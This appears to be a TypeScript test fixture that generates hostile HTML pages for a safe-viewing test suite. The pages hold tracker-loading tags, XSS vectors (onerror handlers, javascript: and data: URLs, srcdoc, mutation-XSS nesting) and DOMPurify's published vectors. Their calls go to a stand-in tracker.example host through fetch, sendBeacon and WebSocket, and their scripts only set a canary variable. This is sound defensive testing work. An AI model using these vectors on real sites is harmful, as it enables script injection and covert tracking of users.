// Hostile saved web pages for the safe-viewing proof: our own pages full of trackers and script
// vectors, and DOMPurify's published XSS vectors wrapped into pages. Every remote address is on a
// reserved .example domain, so even a leak could not reach a real server, and the suite's route
// guard aborts and records it. Script vectors try to set `__pwned` in the app (the frame's parent)
// and to raise a dialog; the spec fails on either.
import fs from 'node:fs';
import path from 'node:path';
import { STATIC_DIR } from '../globalSetup';

const REPO_ROOT = path.resolve(STATIC_DIR, '../..');
const VECTORS_PATH = path.resolve(REPO_ROOT, '../shared/corpus/hostile/dompurify-vectors.json');

export interface HostilePage {
  name: string;
  title: string;
  /** A sentence of the page's readable text, to see that the Original view shows the page. */
  marker: string;
  html: string;
}

const CANARY = 'window.__pwned=1;parent.__pwned=1;top.__pwned=1';

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function page(title: string, marker: string, head: string, body: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title>${head}</head>
<body><article><h1>${escapeHtml(title)}</h1><p>${escapeHtml(marker)} The analyst must be able to read this page without anyone learning that it was read.</p>
${body}
<p>Closing paragraph of the hostile page, long enough for Readability to treat the page as an article worth extracting.</p></article></body></html>`;
}

/** Trackers: everything that would fetch something when the page is shown. */
const TRACKERS = page(
  'Hostile page: trackers',
  'Tracker marker sentence.',
  `<base href="https://tracker.example/base/">
<meta http-equiv="refresh" content="0;url=https://tracker.example/refresh">
<link rel="stylesheet" href="https://tracker.example/style.css">
<link rel="icon" href="https://tracker.example/favicon.ico">
<link rel="preload" as="image" href="https://tracker.example/preload.png">
<link rel="prefetch" href="https://tracker.example/prefetch">
<link rel="dns-prefetch" href="https://dns.tracker.example">
<link rel="preconnect" href="https://preconnect.tracker.example">
<style>@import url("https://tracker.example/import.css"); body { background: url(https://tracker.example/bg.png); }
@font-face { font-family: spy; src: url(https://tracker.example/font.woff2); } p { font-family: spy; }
.x { background-image: image-set("https://tracker.example/set.png" 1x); }</style>`,
  `<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="pixel">
<img src="relative-pixel.gif" alt="relative to base">
<img srcset="https://tracker.example/srcset-1x.png 1x, https://tracker.example/srcset-2x.png 2x" alt="srcset">
<picture><source srcset="https://tracker.example/picture.webp" type="image/webp"><img src="https://tracker.example/picture.jpg" alt="picture"></picture>
<div style="background-image: url('https://tracker.example/inline-style.png')">inline style url()</div>
<div style="background: u\\72l(https://tracker.example/escaped.png)">escaped url()</div>
<table background="https://tracker.example/table.png"><tr><td background="https://tracker.example/td.png">cell</td></tr></table>
<video poster="https://tracker.example/poster.jpg" src="https://tracker.example/video.mp4" autoplay><source src="https://tracker.example/source.mp4"><track src="https://tracker.example/track.vtt"></video>
<audio src="https://tracker.example/audio.mp3" autoplay></audio>
<iframe src="https://tracker.example/frame.html"></iframe>
<object data="https://tracker.example/object.swf"></object>
<embed src="https://tracker.example/embed.swf">
<input type="image" src="https://tracker.example/input.png">
<a href="https://tracker.example/link" ping="https://tracker.example/ping">A link with a ping</a>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="https://tracker.example/svg-image.png"/><image xlink:href="https://tracker.example/svg-xlink.png"/><use href="https://tracker.example/sprite.svg#a"/></svg>
<noscript><img src="https://tracker.example/noscript.gif"></noscript>
<template><img src="https://tracker.example/template.gif"></template>`,
);

/** Scripts: every way a page could try to run code in, or reach out of, its frame. */
const SCRIPTS = page(
  'Hostile page: scripts',
  'Script marker sentence.',
  `<script src="https://tracker.example/remote.js"></script>
<script>${CANARY};alert('inline');fetch('https://tracker.example/fetch');navigator.sendBeacon('https://tracker.example/beacon');new WebSocket('wss://tracker.example/ws');</script>
<script type="module">${CANARY};import('https://tracker.example/module.js');</script>
<meta http-equiv="refresh" content="1;url=javascript:${CANARY}">`,
  `<img src="x" onerror="${CANARY};alert('onerror')">
<body onload="${CANARY}">
<svg onload="${CANARY}"><script>${CANARY}</script><a xlink:href="javascript:${CANARY}"><text x="10" y="20">svg link</text></a></svg>
<svg><animate onbegin="${CANARY}" attributeName="x" dur="1s"/></svg>
<a href="javascript:${CANARY}">javascript: link</a>
<a href="data:text/html,<script>${CANARY}</script>">data: link</a>
<iframe src="data:text/html,<script>${CANARY}</script>"></iframe>
<iframe srcdoc="<script>${CANARY}</script>"></iframe>
<iframe src="javascript:${CANARY}"></iframe>
<object data="data:text/html,<script>${CANARY}</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CANARY}'/>">
<form action="https://tracker.example/form" method="post"><input name="q" autofocus onfocus="${CANARY}"><button formaction="javascript:${CANARY}">Send</button></form>
<details open ontoggle="${CANARY}"><summary>details</summary></details>
<div style="behavior: url(https://tracker.example/x.htc); -moz-binding: url(https://tracker.example/x.xml)">old-browser bindings</div>
<math><mtext><table><mglyph><style><img src=x onerror="${CANARY}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${CANARY}>"></p></noscript>
<isindex action="javascript:${CANARY}" type="image">
<marquee onstart="${CANARY}">marquee</marquee>
<video><source onerror="${CANARY}"></video>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="data image">`,
);

/** DOMPurify's vectors, with alert() also setting the canary, in pages of `perPage`. */
function vectorPages(perPage: number): HostilePage[] {
  const { vectors } = JSON.parse(fs.readFileSync(VECTORS_PATH, 'utf8')) as {
    vectors: { title?: string; payload: string }[];
  };
  const pages: HostilePage[] = [];
  for (let start = 0; start < vectors.length; start += perPage) {
    const n = pages.length + 1;
    const title = `DOMPurify vectors ${n}`;
    const marker = `DOMPurify vector page ${n} marker sentence.`;
    const body = vectors
      .slice(start, start + perPage)
      .map(
        (v, i) =>
          `<section><h2>Vector ${start + i + 1}${v.title ? `: ${escapeHtml(v.title)}` : ''}</h2>${v.payload.replaceAll('alert(', `${CANARY};alert(`)}</section>`,
      )
      .join('\n');
    pages.push({ name: `dompurify-${n}.html`, title, marker, html: page(title, marker, '', body) });
  }
  return pages;
}

export function vectorCount(): number {
  return (JSON.parse(fs.readFileSync(VECTORS_PATH, 'utf8')) as { count: number }).count;
}

export function hostilePages(): HostilePage[] {
  return [
    { name: 'trackers.html', title: 'Hostile page: trackers', marker: 'Tracker marker sentence.', html: TRACKERS },
    { name: 'scripts.html', title: 'Hostile page: scripts', marker: 'Script marker sentence.', html: SCRIPTS },
    ...vectorPages(25),
  ];
}
